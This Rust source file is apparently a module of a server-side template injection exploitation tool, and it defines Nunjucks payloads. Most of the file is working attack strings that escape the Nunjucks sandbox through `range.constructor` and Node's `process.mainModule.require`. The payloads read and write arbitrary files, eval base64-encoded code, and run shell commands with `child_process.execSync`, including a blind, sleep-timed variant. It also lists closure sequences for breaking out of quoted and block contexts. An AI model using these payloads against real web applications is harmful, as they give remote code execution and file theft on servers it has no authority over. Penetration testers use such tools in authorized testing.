//! JavaScript-family template engines (§ supplemented features: concrete
//! engine descriptors). Nunjucks is the flagship descriptor, grounded
//! directly on the retained reference implementation's payload set;
//! `ctx_closures` is the shared closure ladder every JS-templating engine
//! in this family reuses to break out of a quoted string argument.

use std::collections::HashMap;

use crate::context::ContextDescriptor;
use crate::plugin::{
    Call, EvaluateAction, ExecuteAction, ExecuteBlindAction, HeaderType, Md5Action, PluginDescriptor, PluginInfo,
    ReadAction, RenderAction, Version, WriteAction,
};
use crate::util;

/// Closure matrix shared by every context that escapes a single- or
/// double-quoted JS string argument: a quote character, optionally
/// followed by a closing paren.
pub fn ctx_closures() -> HashMap<u8, Vec<Vec<String>>> {
    let mut map = HashMap::new();
    map.insert(
        1u8,
        vec![
            vec!["\"".to_string(), "'".to_string()],
            vec![String::new(), ")".to_string()],
        ],
    );
    map
}

/// Nunjucks (https://mozilla.github.io/nunjucks/): a JavaScript-hosted
/// Jinja2-alike. `global.process.mainModule.require(...)` is its standard
/// sandbox-escape primitive for reaching Node's `fs`/`child_process`/`os`
/// modules from inside a template expression.
pub fn nunjucks() -> PluginDescriptor {
    let a = util::rand_4digit();
    let b = util::rand_4digit();

    let mut d = PluginDescriptor::new("javascript", "nunjucks", 5);
    d.header_type = HeaderType::Add;
    d.min_core_version = Version(1, 0, 0);
    d.info = PluginInfo {
        description: "Nunjucks template engine".to_string(),
        authors: vec!["Emilio Pinna".to_string(), "Jeremy Bae".to_string(), "Vladislav Korchagin".to_string()],
        references: vec![
            "https://mozilla.github.io/nunjucks/".to_string(),
            "https://github.com/mozilla/nunjucks".to_string(),
        ],
        engines: vec!["nunjucks".to_string()],
    };

    d.actions.render = Some(RenderAction {
        render: "{code}".to_string(),
        header: Some("{{{header[0]}+{header[1]}}}".to_string()),
        trailer: Some("{{{trailer[0]}+{trailer[1]}}}".to_string()),
        test_render: format!("{{{{{}*{}}}}}", a, b),
        test_render_expected: (a * b).to_string(),
    });
    d.actions.write = Some(WriteAction {
        call: Call::Inject,
        write: "{{{{range.constructor(\"global.process.mainModule.require('fs').appendFileSync('{path}', Buffer('{chunk_b64p}', 'base64'), 'binary')\")()}}}}".to_string(),
        truncate: Some("{{{{range.constructor(\"global.process.mainModule.require('fs').writeFileSync('{path}', '')\")()}}}}".to_string()),
    });
    d.actions.read = Some(ReadAction {
        call: Call::Evaluate,
        read: "global.process.mainModule.require('fs').readFileSync('{path}').toString('base64')".to_string(),
    });
    d.actions.md5 = Some(Md5Action {
        call: Call::Evaluate,
        md5: "global.process.mainModule.require('crypto').createHash('md5').update(global.process.mainModule.require('fs').readFileSync('{path}')).digest('hex')".to_string(),
    });
    d.actions.evaluate = Some(EvaluateAction {
        call: Call::Render,
        evaluate: "{{{{range.constructor(\"return eval(Buffer('{code_b64p}','base64').toString())\")()}}}}".to_string(),
        test_os: Some("global.process.mainModule.require('os').platform()".to_string()),
        test_os_expected: Some(r"^[\w-]+$".to_string()),
    });
    d.actions.execute = Some(ExecuteAction {
        call: Call::Evaluate,
        execute: "global.process.mainModule.require('child_process').execSync(Buffer('{code_b64p}', 'base64').toString())".to_string(),
        test_cmd: None,
        test_cmd_expected: None,
    });
    d.actions.execute_blind = Some(ExecuteBlindAction {
        call: Call::Inject,
        execute_blind: "{{{{range.constructor(\"global.process.mainModule.require('child_process').execSync(Buffer('{code_b64p}', 'base64').toString() + ' && sleep {delay}')\")()}}}}".to_string(),
    });

    let closures = ctx_closures();
    d.contexts = vec![
        ContextDescriptor {
            level: 0,
            ..Default::default()
        },
        ContextDescriptor {
            level: 1,
            prefix: Some("{closure}}}".to_string()),
            suffix: "{1".to_string(),
            wrappers: vec![],
            closures: closures.clone(),
        },
        ContextDescriptor {
            level: 1,
            prefix: Some("{closure} %}".to_string()),
            suffix: String::new(),
            wrappers: vec![],
            closures: closures.clone(),
        },
        ContextDescriptor {
            level: 5,
            prefix: Some("{closure} %}{% endfor %}{% for a in [1] %}".to_string()),
            suffix: String::new(),
            wrappers: vec![],
            closures: closures.clone(),
        },
        ContextDescriptor {
            level: 5,
            prefix: Some("{closure} = 1 %}".to_string()),
            suffix: String::new(),
            wrappers: vec![],
            closures,
        },
        ContextDescriptor {
            level: 5,
            prefix: Some("#}".to_string()),
            suffix: "{#".to_string(),
            wrappers: vec![],
            closures: HashMap::new(),
        },
    ];

    d
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nunjucks_declares_every_escalation_capability() {
        let d = nunjucks();
        assert!(d.actions.render.is_some());
        assert!(d.actions.evaluate.is_some());
        assert!(d.actions.execute.is_some());
        assert!(d.actions.execute_blind.is_some());
        assert!(d.actions.read.is_some());
        assert!(d.actions.write.is_some());
        assert!(d.actions.md5.is_some());
    }

    #[test]
    fn nunjucks_test_render_expected_matches_its_own_payload() {
        let d = nunjucks();
        let render = d.actions.render.unwrap();
        let parts: Vec<&str> = render
            .test_render
            .trim_start_matches("{{")
            .trim_end_matches("}}")
            .split('*')
            .collect();
        let product: u32 = parts[0].parse::<u32>().unwrap() * parts[1].parse::<u32>().unwrap();
        assert_eq!(product.to_string(), render.test_render_expected);
    }

    #[test]
    fn ctx_closures_expands_to_four_quote_variants() {
        let closures = ctx_closures();
        let ctx = ContextDescriptor {
            level: 1,
            prefix: Some("{closure}".to_string()),
            suffix: String::new(),
            wrappers: vec![],
            closures,
        };
        let expanded = crate::context::expand_closures(&ctx, 1, crate::context::ForceLevel::default());
        assert_eq!(expanded.len(), 4);
    }
}
